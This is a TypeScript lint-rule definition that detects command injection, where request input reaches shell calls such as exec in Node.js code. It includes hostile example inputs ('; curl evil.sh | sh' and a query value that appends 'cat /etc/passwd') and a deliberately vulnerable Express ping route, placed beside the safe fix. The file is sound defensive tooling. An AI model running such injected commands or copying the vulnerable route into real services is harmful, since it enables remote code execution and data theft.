// no-command-injection: request input that reaches a shell command — `child_process.exec`/
// `execSync` (always a shell), `spawn`/`execFile` with `shell: true` (the arguments are shell text
// then) or with a request-chosen program, shelljs `exec`, execa's command forms — in the handler,
// in a function of the same file, or in a project function in another file the handler calls.
// A client that controls part of a command line runs its own commands with the service's
// privileges (`; curl evil.sh | sh`). Flows come from the taint engine (src/core/taint.ts):
// numbers, schema-parsed values, allow-listed values and shell-quoted values are not flagged.
import { commandSinks } from '../src/core/sinks/command.js';
import { defineFileRule } from '../src/core/rule.js';
import { flowMessages, injectionListeners } from '../src/core/taint.js';

const ADVICE =
  'the client\'s text becomes part of the command the service runs — pass arguments as an array to `execFile`/`spawn` without a shell, or check the value against an allow list';

export default defineFileRule({
  id: 'no-command-injection',
  category: 'security',
  severity: 'critical',
  recommended: true,
  cwe: [78],
  defaultOptions: {},
  messages: flowMessages(ADVICE),
  docs: {
    description: 'Disallow request input in shell commands (`exec`, `execSync`, `spawn` with `shell: true`, shelljs).',
    why:
      '`exec` hands its string to `/bin/sh`: a request value inside it is shell syntax, so `?host=example.com;cat /etc/passwd` ' +
      'runs a second command, and `$(…)` or backticks run anything the client writes, with the service\'s user, environment ' +
      'variables and network. Escaping by hand misses a metacharacter sooner or later. The rule follows the value from the request ' +
      '(`req.query`, `req.body`, route params, headers, NestJS `@Query()`/`@Param()`/`@Body()`) through variables, string building, ' +
      'functions of the same file and project services in other files.',
    fix:
      'Run the program without a shell and pass the value as one argument: `execFile(\'ping\', [\'-c\', \'1\', host])` or ' +
      '`spawn(\'git\', [\'log\', branch])` (no `shell: true`). Validate it first (a schema, an allow list, `Number()` for counts); ' +
      'if a shell is unavoidable, quote it with `shell-quote` or `shescape`.',
    sites: 'shell command calls',
    examples: {
      invalid: [
        {
          filename: 'src/routes/diagnostics.ts',
          code:
            "import { exec } from 'node:child_process';\nimport { Router } from 'express';\n\nexport const diagnostics = Router();\n\n" +
            "diagnostics.get('/ping', (req, res) => {\n  exec(`ping -c 1 ${req.query.host}`, (err, stdout) => {\n    if (err) return res.status(502).send('unreachable');\n    res.type('text/plain').send(stdout);\n  });\n});\n",
        },
      ],
      valid: [
        {
          filename: 'src/routes/diagnostics.ts',
          code:
            "import { execFile } from 'node:child_process';\nimport { Router } from 'express';\n\nexport const diagnostics = Router();\n\n" +
            "diagnostics.get('/ping', (req, res) => {\n  execFile('ping', ['-c', '1', String(req.query.host)], (err, stdout) => {\n    if (err) return res.status(502).send('unreachable');\n    res.type('text/plain').send(stdout);\n  });\n});\n",
        },
      ],
    },
  },
  create(context) {
    return injectionListeners(context, commandSinks);
  },
});
